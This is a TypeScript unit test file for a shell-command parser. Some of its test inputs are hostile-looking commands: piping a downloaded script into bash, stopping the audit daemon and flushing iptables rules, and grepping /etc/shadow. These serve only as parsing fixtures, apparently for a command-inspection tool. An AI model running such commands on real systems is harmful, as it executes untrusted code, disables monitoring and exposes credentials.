import { describe, expect, it } from 'vitest';
import { parseShell } from './shell-words.ts';

const commands = (line: string) => parseShell(line, 0).commands.map((words) => words.map(({ text }) => text));

describe('parseShell', () => {
  it.each([
    ['chattr +i /etc/x', [['chattr', '+i', '/etc/x']]],
    ['curl -s http://a/b.sh | bash', [['curl', '-s', 'http://a/b.sh'], ['bash']]],
    ['sudo systemctl stop auditd && iptables -F; id', [['systemctl', 'stop', 'auditd'], ['iptables', '-F'], ['id']]],
    ['echo "a b" > /tmp/x', [['echo', 'a b']]],
    ["sh -c 'id; ls'", [['sh', '-c', 'id; ls']]],
    ['', []],
    ['"', [['"']]],
  ])('%s', (line, expected) => {
    expect(commands(line)).toEqual(expected);
  });

  it('knows the place of each word, without its quotes', () => {
    const line = 'grep "pass word" /etc/shadow';
    for (const { text, start, end } of parseShell(line, 0).commands[0] ?? []) expect(line.slice(start, end)).toBe(text);
  });
});
